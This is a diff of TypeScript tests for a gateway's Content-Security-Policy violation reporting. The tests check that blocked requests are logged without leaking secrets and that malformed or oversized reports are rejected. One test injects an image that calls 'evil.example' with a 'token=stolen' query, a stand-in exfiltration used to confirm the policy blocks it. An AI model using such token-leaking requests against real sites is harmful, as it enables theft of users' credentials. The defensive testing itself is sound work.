@@ -96,6 +96,69 @@ describe('/docs', () => {
     }
   });
 
+  describe('reports of what its policy blocks', () => {
+    const TYPE = 'application/csp-report';
+    const violations = () =>
+      gateway
+        .log()
+        .split('\n')
+        .filter((line) => line.includes('"csp.violation"'))
+        .map((line) => (JSON.parse(line) as { metadata: object }).metadata);
+    const report = (type: string, body: unknown) =>
+      fetch(`${gateway.url}/api/csp-reports`, {
+        method: 'POST',
+        headers: { 'Content-Type': type },
+        body: typeof body === 'string' ? body : JSON.stringify(body),
+      });
+
+    it('come from a browser, and are logged', async () => {
+      const attacked = await browser.newPage();
+      await attacked.goto(`${gateway.url}/docs`);
+      await attacked.evaluate(
+        `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel?token=stolen' }))`,
+      );
+      await expect
+        .poll(violations, { timeout: 30_000 })
+        .toContainEqual(expect.objectContaining({ field: 'img-src', url: 'https://evil.example' }));
+      await attacked.close();
+    });
+
+    it('are taken in the older form, and their text is not logged', async () => {
+      const answer = await report(TYPE, {
+        'csp-report': {
+          'document-uri': 'https://api.example.org/docs?secret=1',
+          'violated-directive': "script-src 'self'",
+          'blocked-uri': 'inline',
+          'script-sample': 'alert("ada@example.org")',
+        },
+      });
+      expect([answer.status, await answer.text()]).toEqual([204, '']);
+      await expect
+        .poll(violations)
+        .toContainEqual(expect.objectContaining({ field: 'script-src', url: 'inline' }));
+      expect(gateway.log()).not.toMatch(/secret=1|script-sample|token=stolen/);
+    });
+
+    it('are bounded in size and words', async () => {
+      const before = violations().length;
+      const forged = {
+        'effective-directive': 'forged\nline',
+        'blocked-uri': { not: 'a text' },
+        'violated-directive': 'x'.repeat(5_000),
+      };
+      expect((await report(TYPE, { 'csp-report': forged })).status).toBe(204);
+      await expect.poll(() => violations().length).toBe(before + 1);
+      expect(violations().at(-1)).toMatchObject({ field: 'unknown', url: 'unknown' });
+      expect((await report(TYPE, { 'csp-report': {}, more: 'x'.repeat(20_000) })).status).toBe(413);
+      expect((await report(TYPE, '{')).status).toBe(400);
+      expect((await report('text/plain', '{}')).status).toBe(415);
+      for (const odd of [{}, [null, 1], 'null', { 'csp-report': 3 }]) {
+        expect((await report(TYPE, odd)).status).toBe(204);
+      }
+      expect(violations()).toHaveLength(before + 1);
+    });
+  });
+
   it('is not there in production, unless it is asked for', async () => {
     const secrets = { JWT_SECRET: aSecret(), PASSWORD_PEPPER: aSecret() };
     const production = { NODE_ENV: 'production', ...secrets };
@@ -107,5 +170,8 @@ describe('/docs', () => {
       expect([path, (await call(closed, path)).status]).toEqual([path, 404]);
       expect([path, (await call(open, path)).status]).toEqual([path, 200]);
     }
+    const reports = { method: 'POST' } as const;
+    expect((await call(closed, '/api/csp-reports', reports)).status).toBe(404);
+    expect((await call(open, '/api/csp-reports', reports)).status).toBe(204);
   });
 });
